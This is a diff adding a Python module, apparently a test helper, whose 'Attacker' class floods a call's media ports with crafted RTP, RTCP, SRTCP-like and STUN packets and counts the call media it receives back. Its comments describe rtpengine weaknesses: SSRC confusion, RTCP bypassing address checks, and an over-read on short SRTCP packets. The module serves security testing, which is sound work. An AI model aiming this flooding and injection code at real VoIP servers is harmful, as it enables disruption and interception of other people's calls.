@@ -1,0 +1,131 @@
+"""Somebody who knows a call's ports and nothing else: floods them from an address of his own, and listens.
+
+Knows RTP, RTCP, STUN and what looks like SRTP. Must not know calls, keys or passwords.
+"""
+
+from __future__ import annotations
+
+import itertools
+import os
+import socket
+import struct
+import threading
+import time
+from collections.abc import Callable, Iterable
+from types import TracebackType
+from typing import Final, Self
+
+SSRC: Final = 0x0BAD0BAD
+HOST: Final = "127.0.0.66"
+_BURST: Final = 20
+_LISTEN_EVERY: Final = 50
+
+Target = tuple[str, int]
+
+
+def _rtp(payload_type: int) -> Callable[[int], bytes]:
+    def packet(number: int) -> bytes:
+        header = struct.pack("!BBHII", 0x80, payload_type, number & 0xFFFF, number * 160 & 0xFFFFFFFF, SSRC)
+        return header + b"\xd5" * 160
+
+    return packet
+
+
+def _sender_report(number: int) -> bytes:
+    # Read as RTP, too, it names the same SSRC: see the note on KINDS.
+    return struct.pack("!BBHIIIIII", 0x80, 200, 6, SSRC, SSRC, number, number, 1, 1)
+
+
+def _receiver_report() -> bytes:
+    return struct.pack("!BBHI", 0x80, 201, 1, SSRC)
+
+
+def _goodbye(number: int) -> bytes:
+    goodbye = struct.pack("!BBHI", 0x81, 203, 1, SSRC)
+    # The last word is what SRTCP has as index: E bit 0, so nobody may look for encryption (RFC 3711 §3.4).
+    return _receiver_report() * 3 + goodbye + struct.pack("!I", number & 0x7FFFFFFF)
+
+
+def _key_frame_request(number: int) -> bytes:
+    request = struct.pack("!BBHII", 0x81, 206, 2, SSRC, SSRC)
+    return _receiver_report() + request * 2 + struct.pack("!I", number & 0x7FFFFFFF)
+
+
+def _encrypted(_number: int) -> bytes:
+    return struct.pack("!BBHII", 0x80, 111, 7, 7, SSRC) + os.urandom(80)
+
+
+def _binding_request(_number: int) -> bytes:
+    """Without MESSAGE-INTEGRITY (RFC 8445 §7.3 wants it)."""
+    return struct.pack("!HHI", 1, 0, 0x2112A442) + os.urandom(12)
+
+
+# All name few SSRCs. With a new one in each packet rtpengine forgets which SSRC it gave the call's own stream and gives
+# it another one: nothing is relayed or lost, but whoever counts packets by SSRC cannot tell.
+# RTCP comes first: before the first RTP of a call it is what address checks forget. None is shorter than SRTCP with
+# AES-GCM may be, 28 bytes: rtpengine 10.5 reads beyond its end (ansible/roles/rtpengine/README.md).
+KINDS: Final = (
+    _sender_report,
+    _goodbye,
+    _key_frame_request,
+    _rtp(8),
+    _rtp(0),
+    _rtp(111),
+    _rtp(96),
+    _rtp(97),
+    _encrypted,
+    _binding_request,
+)
+
+
+class Attacker:
+    """Floods targets in a thread of its own; use as a context manager."""
+
+    def __init__(self, targets: Iterable[Target], packets_per_s: int) -> None:
+        self._targets = tuple(targets)
+        self._packets_per_s = packets_per_s
+        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self._socket.bind((HOST, 0))
+        self._socket.setblocking(False)
+        self.sent = 0
+        self.stolen = 0
+        """Packets that came to him: media of the call, or an answer."""
+        self._stopped = threading.Event()
+        self._thread = threading.Thread(target=self._flood, daemon=True)
+
+    def __enter__(self) -> Self:
+        self._thread.start()
+        return self
+
+    def __exit__(
+        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
+    ) -> None:
+        self._stopped.set()
+        self._thread.join()
+        self._listen()
+        self._socket.close()
+
+    def _flood(self) -> None:
+        began = time.monotonic()
+        for number, (kind, target) in enumerate(
+            itertools.cycle(itertools.product(KINDS, self._targets)), start=1
+        ):
+            try:
+                self._socket.sendto(kind(number), target)
+            except BlockingIOError:
+                continue
+            self.sent += 1
+            if self.sent % _LISTEN_EVERY == 0:
+                self._listen()
+            if self.sent % _BURST == 0:
+                if self._stopped.is_set():
+                    return
+                time.sleep(max(0.0, began + self.sent / self._packets_per_s - time.monotonic()))
+
+    def _listen(self) -> None:
+        while True:
+            try:
+                self._socket.recv(2048)
+            except BlockingIOError:
+                return
+            self.stolen += 1
